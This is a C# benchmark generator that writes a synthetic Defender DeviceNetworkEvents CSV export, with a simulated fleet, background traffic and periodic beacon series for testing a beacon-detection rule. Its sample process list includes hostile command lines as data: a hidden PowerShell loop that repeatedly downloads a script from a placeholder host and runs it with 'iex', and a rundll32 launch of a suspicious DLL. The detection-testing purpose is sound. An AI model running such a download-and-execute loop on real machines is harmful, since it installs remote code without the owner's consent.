using System.Globalization;
using System.Text;

namespace Cadence.Bench;

/// <summary>
/// Writes a synthetic Defender DeviceNetworkEvents CSV export: a fixed fleet with a fixed set of
/// channels, background traffic spread over those channels, and periodic beacon series that the
/// seed rule finds.
/// </summary>
/// <remarks>
/// The fleet (devices, destinations, channels, beacon series) does not depend on the row count:
/// more rows only make the same channels denser. That keeps the number of groups the rule builds
/// about constant across file sizes, so a memory table over 1M and 5M rows shows what memory
/// grows with. Output is a pure function of the seed: System.Random with a seed is the legacy
/// algorithm, stable across .NET versions.
/// </remarks>
internal sealed class Generator
{
    public const string Usage = "generate --rows N --out FILE [--seed N] [--devices N]";

    // Advanced hunting's documented column order for DeviceNetworkEvents (the bytes columns the
    // seed rule asks for do not exist in this table; see shared/seed/README.md).
    private static readonly string[] Columns =
    [
        "Timestamp", "DeviceId", "DeviceName", "ActionType", "RemoteIP", "RemotePort", "RemoteUrl",
        "LocalIP", "LocalPort", "Protocol", "LocalIPType", "RemoteIPType", "InitiatingProcessFileName",
        "InitiatingProcessId", "InitiatingProcessCommandLine", "ReportId", "AdditionalFields",
    ];

    // 400 channels per device keeps a single background channel well above the rule's 900 s
    // average interval even at 5M rows (about 24 events a day each). Where a device has several
    // channels to the most popular destination with the same process and port, they share one
    // group; at 5M rows a few dozen such groups cross the threshold, the rule's documented false
    // positive (chatty browsers to a busy endpoint). At 1M rows every result is a beacon series.
    private const int ChannelsPerDevice = 400;
    private const int PublicDestinations = 20_000;
    private const int InternalServers = 300;
    private const int BeaconSeries = 150;
    private const int MaxEventsPerBeacon = 3_000;

    // Beacons are a fixed set; on small files they may take at most this share of the rows.
    private const double MaxBeaconShare = 0.2;

    private static readonly DateTime Origin = new(2024, 3, 25, 8, 0, 0, DateTimeKind.Utc);

    // Two hours more than the rule's window, so the window boundary actually filters rows.
    private static readonly long SpanTicks = TimeSpan.FromHours(26).Ticks;

    private static readonly Process[] Processes =
    [
        new("chrome.exe", 22, "\"chrome.exe\" --type=utility --lang=en-US"),
        new("msedge.exe", 22, "\"msedge.exe\" --type=utility --field-trial-handle=1924,i"),
        new("svchost.exe", 10, "svchost.exe -k NetworkService -p"),
        new("ms-teams.exe", 8, "\"ms-teams.exe\" msteams:system-initiated"),
        new("OUTLOOK.EXE", 7, "\"OUTLOOK.EXE\" /recycle"),
        new("OneDrive.exe", 6, "\"OneDrive.exe\" /background"),
        new("MsSense.exe", 4, "\"MsSense.exe\""),
        new("firefox.exe", 3, "\"firefox.exe\" -contentproc -childID 5 -isForBrowser 7700 tab"),
        new("Code.exe", 3, "\"Code.exe\" --type=utility --lang=en-US"),
        new("SearchApp.exe", 3, "\"SearchApp.exe\" -ServerName:CortanaUI.AppX8z9.mca"),
        new("powershell.exe", 2, "powershell.exe -ExecutionPolicy Bypass -File \"C:\\Scripts\\inventory, daily.ps1\""),
        new("Zoom.exe", 2, "\"Zoom.exe\" --action=preload"),
        new("WINWORD.EXE", 2, "\"WINWORD.EXE\" /n \"C:\\Users\\bob\\Documents\\Q3 plan, draft.docx\""),
        new("backgroundTaskHost.exe", 2, "backgroundTaskHost.exe -ServerName:BackgroundTaskHost"),
        // The rest only initiate inbound or beacon traffic.
        new("System", 0, ""),
        new("rundll32.exe", 0, "rundll32.exe C:\\Users\\Public\\Libraries\\msupd.dll,DllRegisterServer"),
        new("powershell.exe", 0, "powershell.exe -nop -w hidden -c \"while(1){iwr -useb \"\"http://update-check/p\"\" | iex; sleep 60}\""),
        new("GoogleUpdate.exe", 0, "\"GoogleUpdate.exe\" /ua /installsource scheduler"),
        new("python.exe", 0, "python.exe agent.py --server \"api, v2\" --interval 30"),
        new("MonitoringAgent.exe", 0, "\"MonitoringAgent.exe\" -heartbeat"),
        new("svchost.exe", 0, "svchost.exe -k termsvc -s TermService"),
    ];

    private static readonly int[] BeaconProcesses = [15, 16, 17, 18, 19, 5, 3, 2, 0];
    private const int SystemProcess = 14;
    private const int TermServiceProcess = 20;

    private static readonly int[] BeaconIntervalsSeconds = [10, 30, 60, 60, 120, 300, 300, 600, 900, 900, 1800, 3600];
    private static readonly double[] BeaconJitters = [0, 0.02, 0.1, 0.2, 0.4];

    private static readonly string[] WellKnownHosts =
    [
        "login.microsoftonline.com", "outlook.office365.com", "teams.microsoft.com", "www.google.com",
        "edge.microsoft.com", "clients2.google.com", "update.googleapis.com", "github.com", "api.github.com",
        "settings-win.data.microsoft.com", "officeclient.microsoft.com", "graph.microsoft.com",
        "onedrive.live.com", "fonts.gstatic.com", "www.bing.com", "slack.com", "zoom.us", "www.youtube.com",
        "static.xx.fbcdn.net", "cdn.jsdelivr.net", "winatp-gw-weu.microsoft.com", "go.microsoft.com",
    ];

    private static readonly string[] HostPrefixes = ["cdn", "api", "static", "img", "edge", "www", "telemetry", "ads", "s", "assets"];

    private static readonly string[] HostDomains =
    [
        "akamaiedge.net", "cloudfront.net", "fastly.net", "azureedge.net", "googleusercontent.com",
        "contoso-partner.com", "fabrikam.com", "adventure-works.com", "wingtiptoys.com", "tailspintoys.com",
        "northwindtraders.com", "litwareinc.com", "wideworldimporters.com", "proseware.com", "fourthcoffee.com",
        "margiestravel.com", "treyresearch.net", "lucernepublishing.com", "alpineskihouse.com", "blueyonderairlines.com",
    ];

    private static readonly (int Port, string Protocol)[] OtherPublicPorts =
        [(53, "Udp"), (123, "Udp"), (3478, "Udp"), (5228, "Tcp"), (993, "Tcp"), (22, "Tcp"), (587, "Tcp")];

    private static readonly int[] InternalPorts = [445, 389, 88, 135, 443, 8080, 53, 3268];

    private readonly Random _rng;
    private readonly HashSet<string> _usedIPs = new(StringComparer.Ordinal);
    private readonly List<Device> _devices = [];
    private readonly List<Destination> _destinations = [];
    private readonly List<Channel> _channels = [];
    private int[][] _processIds = [];
    private int _backgroundChannels;

    private Generator(int seed) => _rng = new Random(seed);

    public static int Run(Arguments args, TextWriter stdout)
    {
        var rows = args.Integer("rows", -1, 1, int.MaxValue);
        if (rows < 0)
            throw new UsageException("option --rows is required");
        var output = args.RequiredText("out");
        var seed = (int)args.Integer("seed", 1, int.MinValue, int.MaxValue);
        var devices = (int)args.Integer("devices", 500, 1, 60_000);
        args.RejectUnknown();
        if (args.Positionals.Count > 0)
            throw new UsageException($"unexpected argument '{args.Positionals[0]}'");

        var generator = new Generator(seed);
        generator.BuildFleet(devices);
        var events = generator.PlaceEvents((int)rows, out var beaconSeries, out var beaconRows);

        var directory = Path.GetDirectoryName(Path.GetFullPath(output));
        if (directory is not null)
            Directory.CreateDirectory(directory);
        var maxTicks = generator.Write(events, output);

        var bytes = new FileInfo(output).Length;
        stdout.WriteLine(FormattableString.Invariant(
            $"wrote {rows:N0} rows ({beaconRows:N0} in {beaconSeries} beacon series) to {output}"));
        stdout.WriteLine(FormattableString.Invariant(
            $"size: {bytes:N0} bytes ({bytes / 1048576.0:F1} MiB, {(double)bytes / rows:F0} bytes/row)"));
        stdout.WriteLine($"as-of (max Timestamp): {IsoTime.Format(maxTicks)}");
        return 0;
    }

    private void BuildFleet(int deviceCount)
    {
        for (var i = 0; i < deviceCount; i++)
        {
            // Mostly workstations, a tail of servers, as in a typical onboarded fleet.
            var name = i < deviceCount * 0.86
                ? string.Create(CultureInfo.InvariantCulture, $"ws-{i:D4}.corp.contoso.com")
                : string.Create(CultureInfo.InvariantCulture, $"srv-{(i % 3 == 0 ? "app" : i % 3 == 1 ? "sql" : "file")}{i:D4}.corp.contoso.com");
            var id = Convert.ToHexStringLower(RandomBytes(20));
            var localIP = string.Create(CultureInfo.InvariantCulture, $"10.{20 + i / 200}.{i % 200 + 1}.{10 + _rng.Next(240)}");
            _devices.Add(new Device(id, name, localIP));
        }

        _processIds = new int[deviceCount][];
        for (var d = 0; d < deviceCount; d++)
        {
            _processIds[d] = new int[Processes.Length];
            for (var p = 0; p < Processes.Length; p++)
                _processIds[d][p] = p == SystemProcess ? 4 : 4 * _rng.Next(100, 12_000);
        }

        for (var i = 0; i < PublicDestinations; i++)
        {
            var url = i < WellKnownHosts.Length ? WellKnownHosts[i]
                : _rng.NextDouble() < 0.4 ? ""
                : SyntheticHost();
            _destinations.Add(new Destination(NewPublicIP(), url, IsPublic: true));
        }
        var firstInternal = _destinations.Count;
        for (var i = 0; i < InternalServers; i++)
        {
            var ip = string.Create(CultureInfo.InvariantCulture, $"10.{_rng.Next(1, 8)}.{_rng.Next(256)}.{_rng.Next(1, 255)}");
            var url = _rng.NextDouble() < 0.5 ? "" : string.Create(CultureInfo.InvariantCulture, $"srv{i:D3}.corp.contoso.com");
            _destinations.Add(new Destination(ip, url, IsPublic: false));
        }

        // Destination popularity is Zipf-like: a few cloud endpoints shared by every device, a
        // long tail seen by one device each.
        var popularity = new double[PublicDestinations];
        var total = 0.0;
        for (var i = 0; i < PublicDestinations; i++)
            popularity[i] = total += 1.0 / Math.Pow(i + 1, 0.8);
        var processWeights = new double[Processes.Length];
        var processTotal = 0.0;
        for (var p = 0; p < Processes.Length; p++)
            processWeights[p] = processTotal += Processes[p].Weight;

        for (var d = 0; d < deviceCount; d++)
        {
            for (var c = 0; c < ChannelsPerDevice; c++)
            {
                var kind = _rng.NextDouble();
                // Uniform rates within 0.5x..1.5x: no background channel becomes dense enough to
                // look periodic to the rule (see ChannelsPerDevice).
                var weight = 0.5 + _rng.NextDouble();
                if (kind < 0.80)
                {
                    var destination = Pick(popularity, total * _rng.NextDouble());
                    var process = Pick(processWeights, processTotal * _rng.NextDouble());
                    var portRoll = _rng.NextDouble();
                    var (port, protocol) = portRoll < 0.75 ? (443, "Tcp")
                        : portRoll < 0.89 ? (80, "Tcp")
                        : portRoll < 0.92 ? (8080, "Tcp")
                        : portRoll < 0.95 ? (8443, "Tcp")
                        : OtherPublicPorts[_rng.Next(OtherPublicPorts.Length)];
                    _channels.Add(new Channel(d, process, destination, port, 0, protocol, ChannelKind.Outbound, weight));
                }
                else if (kind < 0.92)
                {
                    var destination = firstInternal + _rng.Next(InternalServers);
                    var process = Pick(processWeights, processTotal * _rng.NextDouble());
                    var port = InternalPorts[_rng.Next(InternalPorts.Length)];
                    _channels.Add(new Channel(d, process, destination, port, 0, port == 53 ? "Udp" : "Tcp", ChannelKind.Outbound, weight));
                }
                else
                {
                    // Inbound: the remote side is an internal host, the local port is the service.
                    var destination = firstInternal + _rng.Next(InternalServers);
                    var localPort = _rng.NextDouble() < 0.6 ? 445 : 3389;
                    var process = localPort == 445 ? SystemProcess : TermServiceProcess;
                    _channels.Add(new Channel(d, process, destination, 0, localPort, "Tcp", ChannelKind.Inbound, weight));
                }
            }
        }
        _backgroundChannels = _channels.Count;
    }

    private Event[] PlaceEvents(int rows, out int seriesWritten, out int beaconRows)
    {
        var events = new Event[rows];
        var budget = (int)(rows * MaxBeaconShare);
        var count = 0;
        seriesWritten = 0;
        var series = new List<long>();
        for (var s = 0; s < BeaconSeries; s++)
        {
            var channel = NewBeaconChannel();
            var intervalTicks = BeaconIntervalsSeconds[_rng.Next(BeaconIntervalsSeconds.Length)] * TimeSpan.TicksPerSecond;
            var jitter = BeaconJitters[_rng.Next(BeaconJitters.Length)];
            var durationTicks = TimeSpan.TicksPerHour + (long)(_rng.NextDouble() * (SpanTicks - TimeSpan.TicksPerHour));
            var planned = (int)Math.Min(durationTicks / intervalTicks, MaxEventsPerBeacon);
            var length = (long)(planned * intervalTicks * (1 + jitter));
            var t = (long)(_rng.NextDouble() * Math.Max(0, SpanTicks - length));

            series.Clear();
            for (var k = 0; k < planned; k++)
            {
                t += (long)(intervalTicks * (1 + jitter * (2 * _rng.NextDouble() - 1)));
                if (t >= SpanTicks)
                    break;
                // An implant misses a few check-ins (sleeping host, network blip).
                if (_rng.NextDouble() < 0.03)
                    continue;
                series.Add(t);
            }
            if (count + series.Count > budget)
                continue;
            _channels.Add(channel);
            foreach (var ticks in series)
                events[count++] = new Event(Precision(ticks), _channels.Count - 1);
            seriesWritten++;
        }
        beaconRows = count;

        // Background traffic goes to the fleet's channels only; beacon channels were appended after them.
        var cumulative = new double[_backgroundChannels];
        var total = 0.0;
        for (var c = 0; c < _backgroundChannels; c++)
            cumulative[c] = total += _channels[c].Weight;
        while (count < rows)
        {
            var channel = Pick(cumulative, total * _rng.NextDouble());
            events[count++] = new Event(Precision((long)(_rng.NextDouble() * SpanTicks)), channel);
        }

        // Exports come out in no particular time order; shuffling also spreads beacons through the file.
        _rng.Shuffle(events);
        return events;
    }

    private Channel NewBeaconChannel()
    {
        var device = _rng.Next(_devices.Count);
        var process = BeaconProcesses[_rng.Next(BeaconProcesses.Length)];
        var portRoll = _rng.NextDouble();
        // 4444 is the decoy: periodic, but not a web port, so the rule must not report it.
        var port = portRoll < 0.55 ? 443 : portRoll < 0.75 ? 80 : portRoll < 0.85 ? 8080 : portRoll < 0.95 ? 8443 : 4444;
        var decoy = _rng.NextDouble();
        int destination;
        if (decoy < 0.05)
        {
            destination = PublicDestinations + _rng.Next(InternalServers);
        }
        else
        {
            var url = _rng.NextDouble() < 0.5 ? "" : SyntheticHost();
            _destinations.Add(new Destination(NewPublicIP(), url, IsPublic: true));
            destination = _destinations.Count - 1;
        }
        var kind = decoy is >= 0.05 and < 0.10 ? ChannelKind.FailedBeacon : ChannelKind.Beacon;
        return new Channel(device, process, destination, port, 0, "Tcp", kind, 0);
    }

    private long Write(Event[] events, string path)
    {
        using var stream = new FileStream(path, FileMode.Create, FileAccess.Write, FileShare.Read, 1 << 20);
        using var writer = new StreamWriter(stream, new UTF8Encoding(encoderShouldEmitUTF8Identifier: false), 1 << 20);
        writer.Write(string.Join(',', Columns));
        writer.Write('\n');

        var escapedCommandLines = Processes.Select(p => Csv.Escape(p.CommandLine)).ToArray();
        var line = new LineBuilder();
        var maxTicks = 0L;
        foreach (var e in events)
        {
            var channel = _channels[e.Channel];
            var device = _devices[channel.Device];
            var destination = _destinations[channel.Destination];
            var ticks = Origin.Ticks + e.Ticks;
            maxTicks = Math.Max(maxTicks, ticks);

            var action = channel.Kind switch
            {
                ChannelKind.Inbound => "InboundConnectionAccepted",
                ChannelKind.FailedBeacon => "ConnectionFailed",
                ChannelKind.Beacon => "ConnectionSuccess",
                _ => OutboundAction(_rng.NextDouble()),
            };
            var inbound = channel.Kind == ChannelKind.Inbound;
            var ephemeral = 49152 + _rng.Next(16384);
            // Defender fills RemoteUrl only when it saw the name (DNS, SNI, HTTP host).
            var url = _rng.NextDouble() < 0.25 ? "" : destination.Url;

            line.Clear();
            line.Timestamp(ticks).Comma()
                .Text(device.Id).Comma()
                .Text(device.Name).Comma()
                .Text(action).Comma()
                .Text(destination.IP).Comma()
                .Number(inbound ? ephemeral : channel.RemotePort).Comma()
                .Text(url).Comma()
                .Text(device.LocalIP).Comma()
                .Number(inbound ? channel.LocalPort : ephemeral).Comma()
                .Text(channel.Protocol).Comma()
                .Text("Private").Comma()
                .Text(destination.IsPublic ? "Public" : "Private").Comma()
                .Text(Processes[channel.Process].FileName).Comma()
                .Number(_processIds[channel.Device][channel.Process]).Comma()
                .Text(escapedCommandLines[channel.Process]).Comma()
                .Number(_rng.Next(1_000, 9_000_000)).Comma()
                .Text("\"{}\"");
            line.NewLine();
            writer.Write(line.Span);
        }
        return maxTicks;
    }

    private static string OutboundAction(double roll) => roll switch
    {
        < 0.90 => "ConnectionSuccess",
        < 0.96 => "ConnectionFailed",
        < 0.98 => "ConnectionSuccessAggregatedReport",
        _ => "ConnectionAttempt",
    };

    /// <summary>Defender's own precision varies by event source: mostly 100 ns, some ms, a few whole seconds.</summary>
    private long Precision(long ticks)
    {
        var roll = _rng.NextDouble();
        return roll < 0.88 ? ticks
            : roll < 0.98 ? ticks - ticks % TimeSpan.TicksPerMillisecond
            : ticks - ticks % TimeSpan.TicksPerSecond;
    }

    private string NewPublicIP()
    {
        while (true)
        {
            var a = _rng.Next(1, 224);
            var b = _rng.Next(256);
            // Skip private, loopback, CGNAT, link-local and documentation ranges: Defender would
            // not classify those as Public.
            if (a is 10 or 100 or 127 or 169 or 192 or 198 || (a == 172 && b is >= 16 and <= 31))
                continue;
            var ip = string.Create(CultureInfo.InvariantCulture, $"{a}.{b}.{_rng.Next(256)}.{_rng.Next(1, 255)}");
            if (_usedIPs.Add(ip))
                return ip;
        }
    }

    private string SyntheticHost() => string.Create(CultureInfo.InvariantCulture,
        $"{HostPrefixes[_rng.Next(HostPrefixes.Length)]}{_rng.Next(1, 400)}.{HostDomains[_rng.Next(HostDomains.Length)]}");

    private byte[] RandomBytes(int count)
    {
        var bytes = new byte[count];
        _rng.NextBytes(bytes);
        return bytes;
    }

    /// <summary>Index of the first cumulative weight above <paramref name="target"/>.</summary>
    private static int Pick(double[] cumulative, double target)
    {
        var index = Array.BinarySearch(cumulative, target);
        index = index < 0 ? ~index : index + 1;
        return Math.Min(index, cumulative.Length - 1);
    }

    private sealed record Process(string FileName, int Weight, string CommandLine);

    private sealed record Device(string Id, string Name, string LocalIP);

    private sealed record Destination(string IP, string Url, bool IsPublic);

    private enum ChannelKind { Outbound, Inbound, Beacon, FailedBeacon }

    private readonly record struct Channel(
        int Device, int Process, int Destination, int RemotePort, int LocalPort, string Protocol, ChannelKind Kind, double Weight);

    // 16 bytes a row: 5M rows fit in 80 MB before they are shuffled and written.
    private readonly record struct Event(long Ticks, int Channel);
}
